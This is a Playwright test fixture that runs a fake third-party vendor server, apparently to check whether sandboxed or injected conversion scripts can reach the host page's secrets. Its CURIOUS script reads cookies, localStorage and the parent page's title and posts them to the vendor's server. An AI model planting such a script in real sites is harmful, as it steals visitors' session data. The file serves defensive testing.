import { createServer } from 'node:http'
import { buffer } from 'node:stream/consumers'
import { listen } from '../../fakes/listen.ts'
import { test as base } from '../fixtures.ts'

/** What the vendor's script found, and whether the request for it named the page. */
interface VendorVisit {
  found: Record<string, string>
  referrer: string | undefined
}

/** A third party that serves a curious script, and receives what that found. */
interface Vendor {
  url: string
  visits: VendorVisit[]
}

/** Reads everything that it can reach, and sends it home. */
const CURIOUS = `
const element = document.currentScript
const tried = (read) => { try { return String(read()) } catch (error) { return error.name } }
const found = {
  clickId: element.dataset.clickId,
  cookie: tried(() => document.cookie),
  storage: tried(() => JSON.stringify({ ...localStorage })),
  parent: tried(() => parent.document.title),
}
fetch(new URL('/found', element.src), { method: 'POST', mode: 'no-cors', body: JSON.stringify(found) })
`

/** A server for the conversion scripts of one test, and the browser's environment that names it. */
export const test = base.extend<{
  vendor: Vendor
  measurement: Record<string, string>
  conversionMode: 'sandboxed' | 'injected'
}>({
  measurement: [{}, { option: true }],
  conversionMode: ['sandboxed', { option: true }],
  // biome-ignore lint/correctness/noEmptyPattern: Playwright wants the braces.
  vendor: async ({}, use) => {
    const visits: VendorVisit[] = []
    let referrer: string | undefined
    const server = createServer(async (request, response) => {
      if (request.method === 'POST') {
        visits.push({ found: JSON.parse((await buffer(request)).toString()), referrer })
      } else referrer = request.headers.referer
      response.writeHead(200, { 'content-type': 'text/javascript' }).end(CURIOUS)
    })
    const port = await listen(server)
    await use({ url: `http://127.0.0.1:${port}`, visits })
    server.close()
    server.closeAllConnections()
  },
  serverEnvironment: async ({ vendor, measurement, conversionMode: mode }, use) => {
    const applyUrl = `${vendor.url}/apply.js`
    const disqualifiedUrl = `${vendor.url}/disqualified.js`
    const conversion = { mode, applyUrl, disqualifiedUrl }
    await use({ ...measurement, FUNNEL: JSON.stringify({ conversion }) })
  },
})
